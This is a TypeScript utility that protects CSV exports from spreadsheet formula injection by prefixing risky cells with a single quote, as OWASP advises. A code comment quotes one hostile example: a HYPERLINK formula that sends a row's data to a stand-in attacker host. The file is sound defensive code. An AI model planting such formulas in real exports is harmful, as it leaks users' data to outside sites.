// CSV exports are opened in Excel, LibreOffice or Google Sheets, which run a cell that starts with = + - @ (or a tab
// or carriage return before one) as a formula: a visitor's name `=HYPERLINK("http://evil.example/?"&A2)` would send
// the row to another site. OWASP's rule: prefix such a cell with a single quote, so it is shown as the text it is.
const FORMULA_START = /^[=+\-@\t\r]/

/** The value as a spreadsheet should show it: text that could start a formula gets a leading `'`. */
export function spreadsheetSafe<T>(value: T): T | string {
  return typeof value === 'string' && FORMULA_START.test(value) ? `'${value}` : value
}

/** Every cell of a flat CSV row made spreadsheet-safe. */
export const spreadsheetSafeRow = (row: Record<string, unknown>): Record<string, unknown> =>
  Object.fromEntries(Object.entries(row).map(([column, value]) => [column, spreadsheetSafe(value)]))
